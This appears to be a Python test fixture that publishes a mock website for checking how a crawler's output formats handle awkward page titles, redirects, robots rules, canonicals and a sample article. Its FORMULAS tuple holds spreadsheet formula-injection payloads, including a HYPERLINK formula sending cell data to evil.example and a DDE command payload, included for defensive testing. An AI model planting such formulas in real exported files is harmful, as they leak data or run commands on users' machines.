"""Which site has in its texts all that formats trip over?"""

from __future__ import annotations

from tests.sites.server import Answer
from tests.sites.web import Web

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\uff1d1+1",
)
"""Titles that a spreadsheet would run (OWASP, CSV Injection)."""
AWKWARD = (
    'commas, "quotes" and; semicolons',
    "tabs\tand\u2028lines",
    "gr\u00fc\u00df Gott \u4f60\u597d \U0001f600",
    "\u202eturned round\u200b",
    "]]> <b>bold</b> &amp;",
    "-5",
    "00420",
    "x" * 500,
)


def publish(web: Web) -> None:
    """Pages with such titles, a broken link, redirects, a folder, a picture and a canonical."""
    titles = (*FORMULAS, *AWKWARD)
    paths = [f"/page/{number}" for number in range(len(titles))]
    web.robots("User-agent: *\nDisallow: /private\nCrawl-delay: 0\n")
    web.page(
        "/",
        links=[*paths, "/gone", "/moved", "/private/x", "/copy", "/hidden", "/article", "/teapot"],
        title="Front",
        body='<a href="https://other.example/">elsewhere</a><img src="/picture.png">',
    )
    for path, title in zip(paths, titles, strict=True):
        web.page(path, title=title, links=["/", "/gone"])
    web.redirect("/moved", "/article")
    web.page("/copy", title="Copy", head='<link rel="canonical" href="/article">')
    web.page("/hidden", title="Hidden", head='<meta name="robots" content="noindex">')
    web.raw("/teapot", status=418, body="short and stout")
    web.answer("/article", Answer(headers={"Content-Type": "text/html"}, body=ARTICLE.encode()))


def publish_news(web: Web) -> None:
    """What has changed when the site is visited again."""
    web.page("/page/0", title="No formula any more", links=["/"])
    web.raw("/copy", status=410)


ARTICLE = """<!doctype html><html lang="en"><head><title>An article</title>
<meta name="description" content="Of light and salt"></head><body>
<nav><a href="/">Home</a> <a href="/page/1">Menu</a></nav>
<main><article><h1>The keeper of the light</h1>
<p>Every evening the keeper climbs <a href="/page/2">the stairs</a> of the tower, two hundred and
twelve of them, and lights the lamp that sailors look for from far out at sea.</p>
<h2>What is needed</h2>
<ul><li>oil from the store</li><li>a wick, trimmed in the morning</li></ul>
<table><tr><th>Month</th><th>Ships</th></tr><tr><td>May</td><td>41</td></tr>
<tr><td>June</td><td>57</td></tr></table>
<p>In winter the sea throws salt against the panes, so that they have to be washed each day before
the night falls, and the keeper has been doing that for thirty years without a pause.</p>
</article></main><footer>Imprint</footer></body></html>"""
